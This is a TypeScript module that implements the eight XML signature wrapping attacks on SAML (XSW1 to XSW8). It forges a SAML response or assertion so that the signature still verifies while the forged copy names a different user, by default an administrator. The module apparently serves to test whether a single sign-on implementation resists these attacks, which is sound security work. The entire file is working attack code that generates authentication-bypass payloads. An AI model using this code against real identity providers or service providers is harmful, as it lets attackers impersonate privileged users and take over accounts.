import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

const ASSERTION = "urn:oasis:names:tc:SAML:2.0:assertion";
const PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol";
const SIGNATURE = "http://www.w3.org/2000/09/xmldsig#";

/**
 * Applies one of the signature wrapping attacks XSW1 to XSW8: the signed element is moved to where signature verification still
 * finds it, and a forged copy takes its place. Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be" (USENIX
 * Security 2012), numbered as in SAML Raider. XSW1 and XSW2 need a signed Response, the others a signed Assertion.
 *
 * @param forge - Changes the person in an element. It receives a copy.
 */
export function wrap(xml: string, attack: Wrapping, forge: (xml: string) => string = forgeAda): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = first(response, ASSERTION, "Assertion");
  const signature = first(attack === 1 || attack === 2 ? response : assertion, SIGNATURE, "Signature");
  /** Returns a forged copy without signature and with new IDs. */
  const forged = (original: Element): Element => {
    const copy = original.cloneNode(true) as Element;
    for (const one of children(copy, SIGNATURE, "Signature")) copy.removeChild(one);
    const text = forge(new XMLSerializer().serializeToString(copy)).replace(/ ID="([^"]*)"/g, ' ID="$1-forged"');
    return document.importNode(new DOMParser().parseFromString(text, "text/xml").documentElement, true);
  };
  /** Returns a copy without signature. */
  const unsigned = (original: Element): Element => {
    const copy = original.cloneNode(true) as Element;
    for (const one of children(copy, SIGNATURE, "Signature")) copy.removeChild(one);
    return copy;
  };
  /** Wraps an element in an `Object`, the part of a signature that can contain any content. */
  const object = (content: Element): Element => {
    const created = document.createElementNS(SIGNATURE, "ds:Object");
    created.appendChild(content);
    return created;
  };

  switch (attack) {
    // The forged response carries the signature, which contains the original response.
    case 1: {
      const forgedElement = forged(response);
      forgedElement.insertBefore(signature, first(forgedElement, PROTOCOL, "Status"));
      signature.appendChild(object(unsigned(response)));
      return new XMLSerializer().serializeToString(forgedElement);
    }
    // The forged response contains the original response next to the signature.
    case 2: {
      const forgedElement = forged(response);
      forgedElement.insertBefore(signature, first(forgedElement, PROTOCOL, "Status"));
      forgedElement.insertBefore(unsigned(response), signature);
      return new XMLSerializer().serializeToString(forgedElement);
    }
    // The forged assertion precedes the original one.
    case 3:
      response.insertBefore(forged(assertion), assertion);
      break;
    // The forged assertion contains the original one with its signature.
    case 4: {
      const forgedElement = forged(assertion);
      response.replaceChild(forgedElement, assertion);
      forgedElement.appendChild(assertion);
      break;
    }
    // The forged assertion carries the signature. The original one is at the end of the response.
    case 5: {
      const forgedElement = forged(assertion);
      const original = unsigned(assertion);
      forgedElement.insertBefore(signature, first(forgedElement, ASSERTION, "Subject"));
      response.replaceChild(forgedElement, assertion);
      response.appendChild(original);
      break;
    }
    // The forged assertion carries the signature, which contains the original one.
    case 6: {
      const forgedElement = forged(assertion);
      const original = unsigned(assertion);
      forgedElement.insertBefore(signature, first(forgedElement, ASSERTION, "Subject"));
      signature.appendChild(original);
      response.replaceChild(forgedElement, assertion);
      break;
    }
    // The forged assertion is in an extension before the original one.
    case 7: {
      const extensions = document.createElementNS(PROTOCOL, "samlp:Extensions");
      extensions.appendChild(forged(assertion));
      response.insertBefore(extensions, first(response, PROTOCOL, "Status"));
      break;
    }
    // As in attack 6, but the original assertion is in an Object of the signature.
    case 8: {
      const forgedElement = forged(assertion);
      const original = unsigned(assertion);
      forgedElement.insertBefore(signature, first(forgedElement, ASSERTION, "Subject"));
      signature.appendChild(object(original));
      response.replaceChild(forgedElement, assertion);
      break;
    }
  }
  return new XMLSerializer().serializeToString(document);
}

/** Numbers of the attacks. */
export const WRAPPINGS = [1, 2, 3, 4, 5, 6, 7, 8] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

/** Replaces the person with Ada, an administrator of the company. */
function forgeAda(xml: string): string {
  return xml.replace(/0a11ce00-0000-4000-8000-\d{12}/g, "0a11ce00-0000-4000-8000-000000000001");
}

function children(parent: Element, namespace: string, name: string): Element[] {
  return Array.from(parent.childNodes).filter(
    (node): node is Element =>
      node.nodeType === 1 && (node as Element).namespaceURI === namespace && (node as Element).localName === name,
  );
}

/** @throws {Error} if there is no such child. */
function first(parent: Element, namespace: string, name: string): Element {
  const [child] = children(parent, namespace, name);
  if (!child) throw new Error(`The document has no ${name}.`);
  return child;
}
